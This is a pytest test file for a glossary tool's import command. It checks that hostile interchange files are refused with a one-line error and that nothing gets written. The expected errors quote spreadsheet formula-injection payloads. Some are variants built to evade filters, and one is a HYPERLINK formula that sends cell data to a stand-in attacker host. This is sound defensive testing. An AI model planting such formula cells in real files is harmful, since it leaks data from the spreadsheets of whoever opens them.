"""Hostile interchange files through ``glossary import``: one line, exit 2, nothing written.

Imported cells never stand in for a known column, and no import writes a cell that a
spreadsheet would run as a formula into terms.csv (the file reviewers open in one).
"""

from __future__ import annotations

from pathlib import Path

import pytest

from glossary.cli import main
from glossary.errors import FormatError
from glossary.formats import terms_csv
from glossary.interchange import merge
from glossary.model import Glossary, Status, Term, validate

HOSTILE = Path(__file__).resolve().parents[1] / "formats" / "fixtures" / "hostile"


def run_import(workspace: Path, capsys: pytest.CaptureFixture[str], name: str) -> str:
    (workspace / name).write_bytes((HOSTILE / name).read_bytes())
    before = (workspace / "terms.csv").read_bytes()
    assert main(["import", name]) == 2
    err = capsys.readouterr().err
    assert err.count("\n") == 1 and "Traceback" not in err, err
    assert (workspace / "terms.csv").read_bytes() == before
    written = sorted(p.name for p in workspace.iterdir() if p.name != ".terms.csv.lock")
    assert written == sorted([name, "terms.csv"])
    return err.strip()


@pytest.mark.parametrize(
    ("name", "expected"),
    [
        ("x_column_status.tbx", "x_column_status.tbx:6: <admin type=\"x-column:status\">: "
                                "extra column 'status' would override the known column"),
        ("x_column_ru.tbx", "x_column_ru.tbx:10: <admin type=\"x-column:ru\">: "
                            "extra column 'ru' would override the known column"),
        ("formula_raw.csv", "formula_raw.csv:3: concept 'monitoring-mission': ru "
                            "'=HYPERLINK(\"http://attacker.invalid/?q=\"&A1)' starts with '='"),
        ("formula_leading_space.csv", "formula_leading_space.csv:2: concept 'ceasefire-line': "
                                      "note '  =1+2' starts with '='"),
        ("formula_newline.csv", "formula_newline.csv:2: concept 'ceasefire-line': note "),
        ("formula_fullwidth.csv", "formula_fullwidth.csv:2: concept 'ceasefire-line': ru "
                                  "'＝SUM(A1:A9)' starts with '＝'"),
        ("formula_tab.csv", "formula_tab.csv:2: concept 'ceasefire-line': note '\\tnote' "
                            "starts with '\\t'"),
        # a cell the file defused itself is still a formula once restored
        ("formula_defused_quote.csv", "formula_defused_quote.csv:2: concept 'ceasefire-line': "
                                      "note '@SUM(1+1)' starts with '@'"),
        ("formula_omegat.txt", "formula_omegat.txt:1: concept 'ceasefire-line': note '＠import'"),
    ],
)  # fmt: skip
def test_hostile_cells_are_refused_with_their_line(
    workspace: Path, capsys: pytest.CaptureFixture[str], name: str, expected: str
) -> None:
    err = run_import(workspace, capsys, name)
    assert err.startswith(expected), err


def test_formula_refusal_says_what_to_do(
    workspace: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    err = run_import(workspace, capsys, "formula_raw.csv")
    assert "spreadsheet runs as a formula; refused" in err


def test_a_formula_cell_terms_csv_already_holds_is_no_change(workspace: Path) -> None:
    # a terminologist's own "-ism" survives export and re-import (defused, then restored)
    glossary = Glossary((Term("ism", en="-ism", ru="-изм", status=Status.DRAFT),))
    terms_csv.save(glossary, workspace / "terms.csv")
    assert main(["export", "-o", "out.csv"]) == 0
    assert main(["import", "out.csv"]) == 0
    assert terms_csv.load(workspace / "terms.csv")[0] == glossary
    # but a new formula value for the same concept is refused
    (workspace / "new.csv").write_text("source,target,context\n-ism,=2+2,ism\n", encoding="utf-8")
    assert main(["import", "new.csv"]) == 2


def test_known_column_never_wins_over_an_extra_one() -> None:
    term = Term("a", en="a", ru="а", status=Status.DRAFT, extra=(("status", "reviewed"),))
    problems = validate([term])
    assert [p.message for p in problems] == [
        "extra column 'status' would override the known column of that name"
    ]
    # even were it written, the known value has the last word
    data = terms_csv.write(Glossary((term,), (*terms_csv.COLUMNS, "status")))
    assert b"reviewed" not in data.split(b"\n", 1)[1]


def test_misspelt_extra_column_is_refused_on_import() -> None:
    glossary = Glossary((Term("a", en="a", ru="а"),), ("id", "en", "ru", "kind", "status"))
    incoming = [Term("a", en="a", ru="а", extra=(("defintion", "x"),))]
    with pytest.raises(FormatError, match=r"in.tbx:4: concept 'a': unknown column 'defintion'"):
        merge(glossary, incoming, frozenset({"extra"}), name="in.tbx", lines=[4])


def test_changed_extra_columns_are_reported_by_name() -> None:
    glossary = Glossary((Term("a", en="a", ru="а", extra=(("team", "x"), ("desk", "y"))),),
                        (*terms_csv.COLUMNS, "team", "desk"))  # fmt: skip
    incoming = [Term("a", en="a", ru="а", extra=(("team", "z"), ("region", "east")))]
    report = merge(glossary, incoming, frozenset({"extra"}))
    assert report.updated[0].fields == ("team", "region")
    assert dict(report.glossary["a"].extra) == {"team": "z", "desk": "y", "region": "east"}
